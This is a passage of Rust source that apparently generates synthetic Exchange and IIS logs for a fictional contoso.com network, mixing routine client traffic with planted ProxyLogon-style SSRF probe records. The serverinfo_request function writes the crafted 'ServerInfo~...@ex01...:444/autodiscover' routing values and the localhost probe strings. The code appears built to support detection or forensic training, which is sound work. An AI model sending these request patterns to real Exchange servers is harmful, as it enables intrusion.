                r.query.push_str("MailboxId=");
                sguid(&mut r.query, &u.mbx);
                r.query.push_str("@contoso.com");
                let (req, resp, dur) = match r.action {
                    "NotificationWait" => (
                        rng.lognorm(180.0, 0.3),
                        rng.lognorm(250.0, 0.8),
                        rng.lognorm(90_000.0, 0.7).min(600_000),
                    ),
                    "Connect" => (
                        rng.lognorm(600.0, 0.4),
                        rng.lognorm(1200.0, 0.5),
                        rng.lognorm(120.0, 0.8),
                    ),
                    "Execute" => (
                        rng.lognorm(1800.0, 1.1),
                        rng.lognorm(5000.0, 1.5),
                        rng.lognorm(35.0, 1.0),
                    ),
                    _ => (
                        rng.lognorm(300.0, 0.8),
                        rng.lognorm(900.0, 1.0),
                        rng.lognorm(15.0, 0.8),
                    ),
                };
                r.req_bytes = req;
                r.resp_bytes = resp;
                r.dur = dur.max(2);
                r.cip = if rng.chance(0.8) { u.ip_int } else { u.ip_ext };
                if rng.chance(0.75) {
                    r.routing_hint = "WindowsIdentity";
                    self.anchor_sid(u.rid);
                } else {
                    r.routing_hint = "AnchorMailboxHeader-SMTP";
                    r.anchor.push_str("Smtp~");
                    r.anchor.push_str(&u.smtp);
                }
                if self.rng.chance(0.35) {
                    self.db_cookie(&w.dbs[u.db]);
                }
            }
            P_EWS => {
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                let x = rng.below(100);
                r.stem.push_str(if x < 92 {
                    "/EWS/Exchange.asmx"
                } else if x < 97 {
                    "/ews/exchange.asmx"
                } else {
                    "/EWS/Exchange.asmx/WSSecurity"
                });
                r.action = [
                    "GetItem",
                    "FindItem",
                    "GetFolder",
                    "SyncFolderItems",
                    "GetUserAvailability",
                    "Subscribe",
                    "GetStreamingEvents",
                    "GetUserOofSettings",
                    "FindFolder",
                    "ResolveNames",
                    "GetUserPhoto",
                    "UpdateItem",
                    "CreateItem",
                    "GetEvents",
                ][rng.wpick(&[20, 15, 12, 14, 8, 4, 6, 3, 5, 3, 4, 2, 2, 2])];
                let ua = if rng.chance(0.5) {
                    u.ews
                } else if rng.chance(0.7) {
                    u.outlook
                } else {
                    *rng.pick(&w.ua_ews)
                };
                r.ua = ua;
                r.auth = if w.uas[ua].hp.starts_with("Mac") || w.uas[ua].hp.starts_with("Apple") {
                    if rng.chance(0.6) { "Basic" } else { "NTLM" }
                } else if rng.chance(0.7) {
                    "Negotiate"
                } else {
                    "NTLM"
                };
                if rng.chance(0.5) {
                    let g = rng.guid();
                    sguid(&mut r.creq, &g);
                }
                r.dur = if r.action == "GetStreamingEvents" {
                    rng.lognorm(60_000.0, 0.8).min(1_800_000)
                } else {
                    rng.lognorm(55.0, 1.0).max(2)
                };
                r.req_bytes = rng.lognorm(1400.0, 0.9);
                r.resp_bytes = rng.lognorm(3500.0, 1.4);
                r.cip = if rng.chance(0.7) { u.ip_int } else { u.ip_ext };
                if rng.chance(0.6) {
                    r.routing_hint = "AnchorMailboxHeader-SMTP";
                    r.anchor.push_str("Smtp~");
                    r.anchor.push_str(&u.smtp);
                } else {
                    r.routing_hint = "WindowsIdentity";
                    self.anchor_sid(u.rid);
                }
                if self.rng.chance(0.4) {
                    self.db_cookie(&w.dbs[u.db]);
                }
            }
            P_EAS => {
                let x = self.rng.f64() * self.rng.f64();
                let ui = if w.mobile_users.is_empty() {
                    0
                } else {
                    w.mobile_users[(x * w.mobile_users.len() as f64) as usize]
                };
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                let (ua, dev, dtype) = u
                    .mobile
                    .as_ref()
                    .map(|(a, b, c)| (*a, b.as_str(), *c))
                    .unwrap_or((w.u.outlook_mobile, "0", "Outlook"));
                r.stem.push_str("/Microsoft-Server-ActiveSync/default.eas");
                let cmd = [
                    "Ping",
                    "Sync",
                    "FolderSync",
                    "ItemOperations",
                    "SendMail",
                    "Options",
                    "Provision",
                    "MoveItems",
                    "GetItemEstimate",
                    "SmartReply",
                    "Search",
                ][rng.wpick(&[48, 30, 5, 4, 3, 3, 1, 2, 2, 1, 1])];
                r.action = cmd;
                r.auth = "Basic";
                r.ua = ua;
                if cmd == "Options" {
                    r.method = "OPTIONS";
                }
                r.query.push_str("Cmd=");
                r.query.push_str(cmd);
                r.query.push_str("&User=");
                if rng.chance(0.6) {
                    r.query.push_str("contoso%5C");
                    r.query.push_str(&u.sam);
                } else {
                    r.query.push_str(&u.smtp.replace('@', "%40"));
                }
                r.query.push_str("&DeviceId=");
                r.query.push_str(dev);
                r.query.push_str("&DeviceType=");
                r.query.push_str(dtype);
                r.dur = (match cmd {
                    "Ping" => {
                        if rng.chance(0.65) {
                            rng.lognorm(900_000.0, 0.35).min(1_740_000)
                        } else {
                            rng.lognorm(60_000.0, 1.2).min(1_740_000)
                        }
                    }
                    "Sync" => rng.lognorm(180.0, 1.0),
                    _ => rng.lognorm(90.0, 0.9),
                })
                .max(3);
                r.req_bytes = if cmd == "Options" {
                    0
                } else {
                    rng.lognorm(120.0, 0.8)
                };
                r.resp_bytes = if cmd == "Ping" {
                    rng.range(13, 40)
                } else {
                    rng.lognorm(900.0, 1.5)
                };
                r.cip = if rng.chance(0.9) { u.ip_ext } else { u.ip_int };
                r.routing_hint = if rng.chance(0.9) {
                    "WindowsIdentity"
                } else {
                    "WindowsIdentity-NoDatabase"
                };
                self.anchor_sid(u.rid);
            }
            P_OWA => {
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.ua = u.browser;
                r.referer = "https://mail.contoso.com/owa/";
                r.owa_suffix = true;
                let internal = rng.chance(0.6);
                r.cip = if internal { u.ip_int } else { u.ip_ext };
                r.auth = if internal && rng.chance(0.3) {
                    "Negotiate"
                } else {
                    "FBA"
                };
                let v = rng.wpick(&[55, 15, 5, 5, 3, 10, 2, 5]);
                match v {
                    0 => {
                        r.stem.push_str("/owa/service.svc");
                        r.action = [
                            "GetConversationItems",
                            "FindItem",
                            "FindConversation",
                            "GetItem",
                            "GetOwaUserConfiguration",
                            "SubscribeToNotification",
                            "UpdateUserConfiguration",
                            "GetCalendarView",
                            "FindPeople",
                            "GetComplianceConfiguration",
                            "GetAccessTokenforResource",
                            "CreateItem",
                            "UpdateItem",
                        ][rng.wpick(&[20, 14, 16, 12, 3, 4, 3, 6, 4, 2, 2, 3, 3])];
                        r.query.push_str("action=");
                        r.query.push_str(r.action);
                        r.query.push_str("&app=Mail&n=");
                        r.query.push_str(&rng.range(1, 400).to_string());
                        r.dur = rng.lognorm(60.0, 1.0).max(3);
                    }
                    1 => {
                        r.stem.push_str("/owa/ev.owa2");
                        r.action = "PendingNotificationRequest";
                        r.query
                            .push_str("ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid=");
                        r.query
                            .push_str(&rng.range(100_000_000, 2_000_000_000).to_string());
                        r.query.push_str("&X-OWA-CANARY=");
                        rng.canary(&mut r.query);
                        r.dur = rng.lognorm(45_000.0, 0.8).min(600_000);
                    }
                    2 => {
                        r.stem.push_str("/owa/sessiondata.ashx");
                        r.query.push_str("appcacheclient=0");
                        r.dur = rng.lognorm(150.0, 0.7);
                    }
                    3 => {
                        r.stem.push_str("/owa/");
                        r.method = "GET";
                        r.dur = rng.lognorm(110.0, 0.8);
                    }
                    4 => {
                        r.stem.push_str("/owa/service.svc/s/GetFileAttachment");
                        r.method = "GET";
                        r.query.push_str("id=AAMkA");
                        rng.alnum(&mut r.query, 60);
                        r.query.push_str("%3D&X-OWA-CANARY=");
                        rng.canary(&mut r.query);
                        r.dur = rng.lognorm(220.0, 1.0);
                    }
                    5 => {
                        r.stem.push_str("/owa/service.svc/s/GetPersonaPhoto");
                        r.method = "GET";
                        r.action = "GetPersonaPhoto";
                        r.query.push_str("email=");
                        let other = &w.users[rng.below(w.users.len() as u64) as usize];
                        r.query.push_str(&other.smtp.replace('@', "%40"));
                        r.query.push_str("&UA=0&size=HR64x64&sc=");
                        r.query
                            .push_str(&rng.range(1_600_000_000_000, 1_615_000_000_000).to_string());
                        r.dur = rng.lognorm(30.0, 0.9);
                    }
                    6 => {
                        r.stem.push_str("/owa/logoff.owa");
                        r.method = "GET";
                        r.dur = rng.lognorm(40.0, 0.6);
                        r.status = 302;
                        r.be_status = 302;
                    }
                    _ => {
                        r.stem.push_str("/owa/plt1.ashx");
                        r.dur = rng.lognorm(20.0, 0.6);
                    }
                }
                r.dur = r.dur.max(2);
                let g = rng.guid();
                shex(&mut r.creq, &g, false);
                r.creq.push('_');
                r.creq.push_str(&((t - r.dur as i64) as u64).to_string());
                r.req_bytes = if r.method == "GET" {
                    0
                } else {
                    rng.lognorm(700.0, 1.0)
                };
                r.resp_bytes = rng.lognorm(2500.0, 1.4);
                if rng.chance(0.7) {
                    r.routing_hint = "WindowsIdentity";
                    self.anchor_sid(u.rid);
                } else {
                    r.routing_hint = "AnchorMailboxHeader-SMTP";
                    r.anchor.push_str("Smtp~");
                    r.anchor.push_str(&u.smtp);
                }
                if self.rng.chance(0.4) {
                    self.db_cookie(&w.dbs[u.db]);
                }
            }
            P_RPC => {
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.stem.push_str("/rpc/rpcproxy.dll");
                let out = rng.chance(0.5);
                r.method = if out { "RPC_OUT_DATA" } else { "RPC_IN_DATA" };
                r.rpc_suffix = true;
                sguid(&mut r.query, &u.mbx);
                r.query.push_str(if rng.chance(0.7) {
                    "@contoso.com:6001"
                } else {
                    "@contoso.com:6004"
                });
                r.ua = w.u.msrpc;
                r.auth = ["NTLM", "Negotiate", "Basic"][rng.wpick(&[60, 30, 10])];
                r.dur = (if out {
                    rng.lognorm(600_000.0, 0.6)
                } else {
                    rng.lognorm(300_000.0, 0.9)
                })
                .clamp(20, 3_600_000);
                r.req_bytes = if out { 76 } else { rng.lognorm(60_000.0, 1.5) };
                r.resp_bytes = if out { rng.lognorm(200_000.0, 1.5) } else { 20 };
                r.cip = if rng.chance(0.5) { u.ip_ext } else { u.ip_int };
                r.routing_hint = "RpcHttpRequestHandler-Mailbox";
                self.anchor_sid(u.rid);
            }
            P_AUTOD => {
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                let v = rng.wpick(&[55, 8, 22, 10, 5]);
                r.cip = if rng.chance(0.6) { u.ip_int } else { u.ip_ext };
                r.host = if rng.chance(0.5) {
                    "autodiscover.contoso.com"
                } else {
                    EXT_HOST
                };
                match v {
                    0 | 4 => {
                        r.stem.push_str(if rng.chance(0.7) {
                            "/autodiscover/autodiscover.xml"
                        } else {
                            "/Autodiscover/Autodiscover.xml"
                        });
                        r.ua = u.outlook;
                        r.auth = if rng.chance(0.7) { "Negotiate" } else { "NTLM" };
                    }
                    1 => {
                        r.stem.push_str("/autodiscover/autodiscover.svc");
                        r.ua = u.ews;
                        r.auth = "NTLM";
                    }
                    2 => {
                        r.stem.push_str("/autodiscover/autodiscover.json/v1.0/");
                        r.stem.push_str(&u.smtp);
                        r.method = "GET";
                        r.query.push_str(
                            [
                                "Protocol=ActiveSync&RedirectCount=1",
                                "Protocol=AutodiscoverV1&RedirectCount=1",
                                "Protocol=Ews&RedirectCount=1",
                            ][rng.wpick(&[50, 30, 20])],
                        );
                        r.ua = if rng.chance(0.5) {
                            w.u.outlook_mobile
                        } else {
                            u.outlook
                        };
                        r.auth = "";
                        r.is_auth = false;
                        r.user.clear();
                        r.iis_user.clear();
                    }
                    _ => {
                        r.stem.push_str("/Autodiscover/Autodiscover.xml");
                        r.ua = u.mobile.as_ref().map(|m| m.0).unwrap_or(w.u.outlook_mobile);
                        r.auth = "Basic";
                        r.cip = u.ip_ext;
                    }
                }
                r.dur = rng.lognorm(40.0, 0.9).max(3);
                r.req_bytes = if r.method == "GET" {
                    0
                } else {
                    rng.lognorm(340.0, 0.3)
                };
                r.resp_bytes = rng.lognorm(2600.0, 0.6);
                r.anchor.push_str("Smtp~");
                r.anchor.push_str(&u.smtp);
                r.routing_hint = if r.is_auth {
                    "AnchorMailboxHeader-SMTP"
                } else {
                    "Url-Smtp"
                };
                if rng.chance(0.3) && r.is_auth {
                    r.anchor.clear();
                    r.routing_hint = "WindowsIdentity";
                    self.anchor_sid(u.rid);
                }
            }
            P_OAB => {
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.set_target(0);
                r.routing_db = Some(w.dbs[0]);
                r.stem.push_str("/OAB/");
                sguid(&mut r.stem, &w.oab);
                let v = rng.wpick(&[60, 20, 20]);
                r.method = if v == 2 { "HEAD" } else { "GET" };
                if v == 0 {
                    r.stem.push_str("/oab.xml");
                    r.ua = u.outlook;
                    r.resp_bytes = if rng.chance(0.7) {
                        0
                    } else {
                        rng.lognorm(4000.0, 0.3)
                    };
                    if r.resp_bytes == 0 {
                        r.status = 304;
                        r.be_status = 304;
                    }
                } else {
                    r.stem.push('/');
                    sguid(&mut r.stem, &w.oab);
                    r.stem
                        .push_str(&format!("-data-{}.lzx", 1 + (t / DAY) % 500));
                    r.ua = w.u.bits;
                    r.resp_bytes = if v == 2 {
                        0
                    } else {
                        rng.lognorm(400_000.0, 1.2)
                    };
                }
                r.auth = "Negotiate";
                r.dur = rng.lognorm(25.0, 1.0).max(2);
                r.cip = if rng.chance(0.8) { u.ip_int } else { u.ip_ext };
                r.anchor.push_str("DatabaseGuid~");
                sguid(&mut r.anchor, &w.dbs[0]);
                r.routing_hint = "OabGuid";
            }
            P_ECP => {
                let admin = self.rng.chance(0.4);
                let ui = if admin {
                    w.admins[self.rng.below(3) as usize]
                } else {
                    self.user()
                };
                let u = &w.users[ui];
                if self.rng.chance(0.03) {
                    // internet version survey (QAZ): anonymous, not ServerInfo~
                    let rng = &mut self.rng;
                    let r = &mut self.req;
                    r.host = PUBLIC_IP;
                    r.stem.push_str("/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application");
                    r.method = "GET";
                    r.auth = "FBA";
                    r.is_auth = false;
                    r.anchor.push_str("ServerVersion~Version 15.0 (Build 0.0)");
                    r.ua = w.u.zgrab;
                    r.cip = [203, 0, 113, 128 + rng.below(120) as u8];
                    r.routing_hint = "EDiscoveryExportTool-ServerVersion";
                    r.dur = rng.lognorm(29.0, 0.5).max(3);
                    r.resp_bytes = 10112;
                    r.set_target(rng.below(2) as usize);
                    return;
                }
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.ua = u.browser;
                r.auth = "FBA";
                r.referer = "https://mail.contoso.com/ecp/";
                r.cip = if admin || rng.chance(0.6) {
                    u.ip_int
                } else {
                    u.ip_ext
                };
                let v = rng.wpick(&[10, 5, 20, 10, 10, 10, 8]);
                let schema = *rng.pick(&[
                    "VirtualDirectories",
                    "MailboxService",
                    "AcceptedDomains",
                    "ServerCertificates",
                    "DistributionGroup",
                    "RetentionPolicies",
                    "MobileDevices",
                ]);
                match v {
                    0 => {
                        r.stem.push_str("/ecp/");
                        r.method = "GET";
                    }
                    1 => {
                        r.stem.push_str("/ecp/default.aspx");
                        r.method = "GET";
                    }
                    2 | 3 => {
                        r.stem.push_str(if v == 2 {
                            "/ecp/DDI/DDIService.svc/GetList"
                        } else {
                            "/ecp/DDI/DDIService.svc/GetObject"
                        });
                        r.query.push_str("schema=");
                        r.query.push_str(schema);
                        r.query.push_str("&msExchEcpCanary=");
                        rng.canary(&mut r.query);
                    }
                    4 | 5 => {
                        r.stem.push_str(if v == 4 {
                            "/ecp/UsersGroups/Mailboxes.svc/GetList"
                        } else {
                            "/ecp/RulesEditor/InboxRules.svc/GetList"
                        });
                        r.query.push_str("msExchEcpCanary=");
                        rng.canary(&mut r.query);
                    }
                    _ => {
                        r.stem.push_str("/ecp/PersonalSettings/HomePage.aspx");
                        r.method = "GET";
                        r.query
                            .push_str("showhelp=false&exsvurl=1&realm=contoso.com");
                    }
                }
                r.dur = rng.lognorm(180.0, 1.0).max(5);
                r.req_bytes = if r.method == "GET" {
                    0
                } else {
                    rng.lognorm(900.0, 0.8)
                };
                r.resp_bytes = rng.lognorm(6000.0, 1.2);
                r.routing_hint = "WindowsIdentity";
                self.anchor_sid(u.rid);
            }
            P_OWACAL => {
                let ui = self.user();
                let u = &w.users[ui];
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.set_target(w.db_srv[u.db]);
                r.stem.push_str("/owa/calendar/");
                shex(&mut r.stem, &u.mbx, false);
                r.stem.push_str("@contoso.com/");
                shex(&mut r.stem, &u.creq, false);
                let ics = rng.chance(0.6);
                r.stem.push_str(&format!(
                    "{}/calendar.{}",
                    rng.range(1_000_000_000_000_000_000, 9_999_999_999_999_999_999),
                    if ics { "ics" } else { "html" }
                ));
                r.method = "GET";
                r.auth = "";
                r.is_auth = false;
                r.owa_suffix = true;
                r.ua = if ics {
                    w.u.gcal
                } else {
                    *rng.pick(&w.ua_browser)
                };
                r.cip = [192, 0, 2, rng.range(1, 250) as u8];
                r.dur = rng.lognorm(80.0, 0.8).max(3);
                r.resp_bytes = rng.lognorm(20_000.0, 1.0);
                r.anchor.push_str("Smtp~");
                r.anchor.push_str(&u.smtp);
                r.routing_hint = "AnonymousPublishingUrl";
            }
            P_PS => {
                let ai = w.admins[self.rng.below(w.admins.len() as u64) as usize];
                let u = &w.users[ai];
                self.set_user(ai);
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.stem.push_str("/powershell");
                r.query.push_str("serializationLevel=Full;ExchClientVer=");
                r.query.push_str(BLD_DOT);
                r.query.push_str(
                    ";clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.4225",
                );
                r.ua = w.u.winrm;
                r.auth = "Kerberos";
                r.cip = if rng.chance(0.5) {
                    u.ip_int
                } else {
                    SERVER_IP[rng.below(2) as usize]
                };
                r.dur = rng.lognorm(400.0, 1.2).max(5);
                r.req_bytes = rng.lognorm(4000.0, 1.0);
                r.resp_bytes = rng.lognorm(9000.0, 1.3);
                r.routing_hint = "WindowsIdentity";
                r.set_target(rng.below(2) as usize);
                self.anchor_sid(u.rid);
            }
            _ => {
                // Rest
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                let path = *rng.pick(&[
                    "/api/v2.0/me/mailfolders/inbox/messages",
                    "/api/v2.0/me/calendarview",
                    "/api/v2.0/me/contacts",
                    "/api/v2.0/me/MailboxSettings",
                    "/api/v2.0/me/events",
                    "/api/beta/me/people",
                ]);
                r.stem.push_str(path);
                r.method = "GET";
                r.query.push_str("$top=");
                r.query.push_str(&rng.range(10, 50).to_string());
                r.ua = u.outlook;
                r.auth = "OAuth";
                r.cip = if rng.chance(0.6) { u.ip_int } else { u.ip_ext };
                r.dur = rng.lognorm(120.0, 1.0).max(3);
                r.resp_bytes = rng.lognorm(6000.0, 1.2);
                r.routing_hint = "AnchorMailboxHeader-SMTP";
                r.anchor.push_str("Smtp~");
                r.anchor.push_str(&u.smtp);
            }
        }
        // variations: Managed Availability probes and NTLM/Negotiate challenge legs
        let r = &mut self.req;
        if p != P_OWACAL && r.is_auth && self.rng.chance(0.04) {
            self.health_mailbox(p);
        } else if r.is_auth
            && r.auth != "Basic"
            && r.auth != "OAuth"
            && p != P_PS
            && self.rng.chance(0.05)
        {
            r.is_auth = false;
            r.user.clear();
            r.iis_user.clear();
            r.anchor.clear();
            r.cookie.clear();
            r.routing_db = None;
            r.proxied = false;
            r.routing_type = "";
            r.routing_hint = "";
            r.status = 401;
            r.be_status = 0;
            r.dur = self.rng.range(0, 6);
            r.resp_bytes = 0;
            r.sub = if self.rng.chance(0.7) { 1 } else { 2 };
            r.win32 = if r.sub == 1 { 2_148_074_254 } else { 5 };
        }
    }

    /// Turns the request into a Managed Availability probe: a HealthMailbox account, the probe
    /// user agent, sent by the server itself.
    fn health_mailbox(&mut self, p: usize) {
        let w = self.w;
        let r = &mut self.req;
        let h = &w.health[self.rng.below(w.health.len() as u64) as usize];
        r.user.clear();
        r.user.push_str("CONTOSO\\");
        r.user.push_str(h);
        r.iis_user.clear();
        r.iis_user.push_str(&r.user);
        r.anchor.clear();
        r.anchor.push_str("Smtp~");
        r.anchor.push_str(h);
        r.anchor.push_str("@contoso.com");
        r.routing_hint = "AnchorMailboxHeader-SMTP";
        r.ua = w.u.probe;
        if p == P_PS {
            r.ua = w.u.ps_probe;
        }
        r.cip = SERVER_IP[0];
        r.host = SERVERS[0];
        r.referer = "";
        self.probe_query(h);
    }

    /// Managed Availability probe traffic: queries that name the probe, not a user.
    fn probe_query(&mut self, h: &str) {
        let r = &mut self.req;
        if r.proto == P_EAS {
            r.query.clear();
            r.query.push_str("Cmd=FolderSync&User=");
            r.query.push_str(h);
            r.query
                .push_str("&DeviceId=EASProbeDeviceId1&DeviceType=EASProbeDeviceType");
            r.action = "FolderSync";
            r.dur = self.rng.lognorm(120.0, 0.6).max(5);
            r.resp_bytes = self.rng.lognorm(400.0, 0.3);
        } else if (r.proto == P_MAPI || r.proto == P_RPC) && r.dur > 60_000 {
            r.dur = self.rng.lognorm(90.0, 0.8).max(5);
        }
    }

    /// A benign line whose AnchorMailbox holds `ServerInfo~` (share `--serverinfo-share`).
    fn serverinfo_request(&mut self, t: i64) {
        let w = self.w;
        let k = if t >= T_0305 {
            self.rng.wpick(&[40, 30, 30])
        } else if t >= T_0302 {
            self.rng.wpick(&[50, 50, 0])
        } else if t >= T_0226 {
            self.rng.wpick(&[80, 20, 0])
        } else {
            0
        };
        self.si[k] += 1;
        match k {
            0 => {
                // health-probe style: a server name without a path
                let p = *self
                    .rng
                    .pick(&[P_EWS, P_MAPI, P_EAS, P_OWA, P_AUTOD, P_RPC, P_OAB, P_ECP]);
                self.request(p, t);
                let h = &w.health[self.rng.below(w.health.len() as u64) as usize];
                let r = &mut self.req;
                if !r.is_auth {
                    r.is_auth = true;
                    r.auth = "Negotiate";
                    r.proxied = true;
                    r.routing_type = "IntraForest";
                    r.status = 200;
                    r.be_status = 200;
                    r.sub = 0;
                    r.win32 = 0;
                    r.dur = r.dur.max(5);
                }
                r.user.clear();
                r.user.push_str("CONTOSO\\");
                r.user.push_str(h);
                r.iis_user.clear();
                r.iis_user.push_str(&r.user);
                let idx = self.rng.below(2) as usize;
                r.set_target(idx);
                r.anchor.clear();
                r.anchor.push_str("ServerInfo~");
                r.anchor.push_str(if self.rng.chance(0.5) {
                    SERVERS[idx]
                } else if idx == 0 {
                    "EX01.contoso.local"
                } else {
                    "EX02.contoso.local"
                });
                r.routing_hint = "ServerInfo";
                r.ua = w.u.probe;
                r.cip = SERVER_IP[0];
                r.host = SERVERS[0];
                r.referer = "";
                self.probe_query(h);
            }
            1 => {
                // autodiscover-only SSRF attempt by an internet scanner (no mailbox found)
                let owa = self.rng.chance(0.25);
                let rid = self.rng.guid();
                self.req.reset(t, rid, if owa { P_OWA } else { P_ECP });
                let rng = &mut self.rng;
                let r = &mut self.req;
                if owa {
                    r.stem.push_str(if rng.chance(0.5) {
                        "/owa/auth/x.js"
                    } else {
                        "/owa/auth/w.js"
                    });
                    r.owa_suffix = true;
                    r.method = "GET";
                } else {
                    r.stem.push_str("/ecp/");
                    let n = rng.range(1, 3) as usize;
                    rng.lower(&mut r.stem, n);
                    r.stem.push_str(".js");
                }
                r.auth = "";
                r.is_auth = false;
                r.anchor.push_str("ServerInfo~");
                let n = rng.range(1, 3) as usize;
                rng.lower(&mut r.anchor, n);
                r.anchor.push_str(if rng.chance(0.8) {
                    "]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#"
                } else {
                    "]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#"
                });
                r.ua = w.ua_scanner[rng.wpick(&[40, 30, 15, 5, 10])];
                r.cip = [203, 0, 113, 128 + rng.below(120) as u8];
                r.routing_type = "";
                r.routing_hint = "X-BEResource-Cookie";
                r.status = if rng.chance(0.85) { 200 } else { 500 };
                r.be_status = r.status;
                r.dur = rng.lognorm(60.0, 0.8).max(5);
                r.req_bytes = if r.method == "GET" {
                    0
                } else {
                    rng.lognorm(400.0, 0.4)
                };
                r.resp_bytes = rng.lognorm(1100.0, 0.4);
                r.no_backend = true;
            }
            _ => {
                // Microsoft's http-vuln-cve2021-26855.nse, run from an admin workstation
                let rid = self.rng.guid();
                self.req.reset(t, rid, P_OWA);
                let rng = &mut self.rng;
                let r = &mut self.req;
                r.stem.push_str("/owa/auth/x.js");
                r.owa_suffix = true;
                r.method = "GET";
                r.auth = "";
                r.is_auth = false;
                r.anchor.push_str(if rng.chance(0.8) {
                    "ServerInfo~localhost/owa/auth/logon.aspx?"
                } else {
                    "ServerInfo~localhost/ecp/default.flt?"
                });
                r.ua = w.u.nmap;
                r.cip = [10, 20, 5, 30 + rng.below(2) as u8];
                r.host = SERVERS[0];
                r.target = "localhost";
                r.target_idx = 2;
                r.routing_type = "";
                r.routing_hint = "X-BEResource-Cookie";
                r.dur = rng.lognorm(25.0, 0.6).max(3);
                r.resp_bytes = rng.lognorm(1400.0, 0.2);
                r.no_backend = true;
            }
        }
    }

    fn emit_req(&mut self) -> io::Result<()> {
        let want = (770.0 + 85.0 * self.rng.normal()).clamp(612.0, 950.0) as usize;
        hp_line(
            &mut self.line,
            &mut self.tail,
            &mut self.gi,
            &self.req,
            self.w,
            &mut self.rng,
            want,
        );
        let (a, _) = self.hp[self.req.proto].write(self.req.t, &self.line, true)?;
        self.bytes += a;
        self.hp_bytes += a;
        self.hp_lines += 1;
        iis_line(&mut self.line, &self.req, self.w, false, 0, &mut self.rng);
        let (a, _) = self.w1.write(self.req.t, &self.line, true)?;
        self.bytes += a;
        self.iis_bytes += a;
        self.iis_lines += 1;
        if self.req.proxied && self.req.target_idx == 0 && !self.req.no_backend {
            iis_line(&mut self.line, &self.req, self.w, true, 0, &mut self.rng);
            let (a, _) = self.w2.write(self.req.t, &self.line, true)?;
            self.bytes += a;
            self.iis_bytes += a;
            self.iis_lines += 1;
        }
        Ok(())
    }

    /// IIS-only traffic: OWA logon pages, load-balancer health checks, requests that EX02's
    /// front end proxies to this back end, internet background noise.
    fn filler(&mut self, t: i64) -> io::Result<()> {
        let w = self.w;
        let k = self.rng.wpick(&[30, 22, 38, 10]);
        if k == 2 {
            // EX02 front end -> EX01 back end
            let p = self.rng.wpick(&PROTO_W);
            self.request(p, t);
            let r = &mut self.req;
            if !r.proxied {
                return Ok(());
            }
            r.set_target(0);
            iis_line(&mut self.line, &self.req, w, true, 1, &mut self.rng);
            let (a, _) = self.w2.write(t, &self.line, true)?;
            self.bytes += a;
            self.iis_bytes += a;
            self.iis_lines += 1;
            return Ok(());
        }
        let rid = self.rng.guid();
        self.req.reset(t, rid, P_OWA);
        let rng = &mut self.rng;
        let r = &mut self.req;
        r.method = "GET";
        r.is_auth = false;
        match k {
            0 => {
                let u = &w.users[rng.below(w.users.len() as u64) as usize];
                r.ua = u.browser;
                r.cip = if rng.chance(0.5) { u.ip_ext } else { u.ip_int };
                r.owa_suffix = true;
                match rng.wpick(&[25, 45, 20, 10]) {
                    0 => {
                        r.stem.push_str("/owa/auth/logon.aspx");
                        r.query
                            .push_str("url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0");
                        r.dur = rng.lognorm(15.0, 0.6);
                    }
                    1 => {
                        r.stem.push_str("/owa/auth/15.1.2106/themes/resources/");
                        r.stem.push_str(rng.pick::<&str>(&[
                            "favicon.ico",
                            "owa_text_blue.png",
                            "sign_in_arrow.png",
                            "segoeui-regular.woff",
                            "segoeui-semilight.woff",
                            "bg_img.png",
                            "warning.png",
                        ]));
                        r.referer = "https://mail.contoso.com/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0";
                        if rng.chance(0.6) {
                            r.status = 304;
                        }
                        r.dur = rng.lognorm(4.0, 0.6);
                    }
                    2 => {
                        r.stem.push_str("/owa/");
                        r.status = 302;
                        r.dur = rng.lognorm(3.0, 0.5);
                    }
                    _ => {
                        r.stem.push_str("/owa/auth.owa");
                        r.method = "POST";
                        r.status = 302;
                        r.referer = "https://mail.contoso.com/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0";
                        r.dur = rng.lognorm(90.0, 0.7);
                    }
                }
            }
            1 => {
                r.stem.push_str(rng.pick::<&str>(&[
                    "/owa/healthcheck.htm",
                    "/ews/healthcheck.htm",
                    "/mapi/healthcheck.htm",
                    "/Microsoft-Server-ActiveSync/healthcheck.htm",
                    "/ecp/healthcheck.htm",
                    "/oab/healthcheck.htm",
                    "/rpc/healthcheck.htm",
                    "/autodiscover/healthcheck.htm",
                ]));
                r.cip = LB_IP;
                r.dur = rng.range(0, 4);
            }
            _ => {
                r.internet_noise(rng, w);
            }
        }
        iis_line(&mut self.line, &self.req, w, false, 0, &mut self.rng);
        let (a, _) = self.w1.write(t, &self.line, true)?;
        self.bytes += a;
        self.iis_bytes += a;
        self.iis_lines += 1;
        Ok(())
    }

    fn flush_plants(&mut self, t: i64) -> io::Result<()> {
        while self.pi < self.plants.len() && self.plants[self.pi].t <= t {
            let p = &self.plants[self.pi];
            let roll = match p.dest {
                Dest::Hp(i) => &mut self.hp[i],
                Dest::W1 => &mut self.w1,
                Dest::W2 => &mut self.w2,
                _ => unreachable!(),
            };
            write_plant(roll, p, &mut self.gts)?;
            self.pi += 1;
        }
        Ok(())
    }

    fn run(&mut self) -> io::Result<()> {
        while self.bytes < self.target {
            let t = self.clock.at(self.bytes, self.target);
            self.flush_plants(t)?;
            if self.rng.chance(self.share) {
                self.serverinfo_request(t);
            } else {
                let p = self.rng.wpick(&PROTO_W);
                self.request(p, t);
